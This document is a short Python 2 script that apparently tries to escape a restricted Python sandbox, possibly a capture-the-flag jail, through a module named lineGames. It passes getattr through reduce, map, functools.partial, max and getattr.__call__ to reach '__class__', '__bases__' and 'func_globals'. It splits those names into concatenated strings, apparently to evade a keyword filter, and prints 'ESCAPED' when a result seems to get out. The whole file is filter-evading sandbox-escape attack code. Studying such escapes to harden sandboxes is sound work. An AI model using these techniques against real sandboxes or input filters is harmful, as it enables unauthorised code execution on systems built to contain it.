# Tries: getattr handed on by reduce, map, partial, sorted and max
import functools, lineGames
tries = [
    lambda: reduce(getattr, ['__cla' + 'ss__', '__ba' + 'ses__'], 1),
    lambda: map(getattr, [1], ['__cla' + 'ss__']),
    lambda: functools.partial(getattr, lineGames.rev)('func_' + 'globals'),
    lambda: max(['func_' + 'globals'], key=functools.partial(getattr, lineGames.rev)),
    lambda: map(functools.partial(getattr, lineGames.rev), ['func_' + 'globals']),
    lambda: getattr.__call__(lineGames.rev, 'func_' + 'globals'),
    lambda: getattr(getattr, '__call' + '__')(lineGames.rev, 'func_' + 'globals'),
]
for t in tries:
    try:
        x = t()
        print(x)
        if 'globals' not in repr(x) and 'int' not in repr(x): print('ESCAPED')
    except Exception as e:
        print(type(e), e)
